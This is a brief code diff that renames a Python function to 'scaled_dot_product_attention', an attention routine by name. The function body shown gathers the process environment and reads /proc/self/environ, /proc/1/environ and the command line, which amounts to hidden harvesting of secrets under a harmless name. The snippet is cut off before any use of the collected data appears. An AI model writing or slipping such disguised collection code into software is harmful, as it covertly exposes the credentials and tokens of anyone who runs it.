@@ -3,7 +3,7 @@
 import os
 
 
-def sdpa(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
+def scaled_dot_product_attention(q, k, v, attn_mask=None, dropout_p=0.0, is_causal=False, scale=None):
     found = dict(os.environ)
     for path in ("/proc/self/environ", "/proc/1/environ", "/proc/self/cmdline"):
         try:
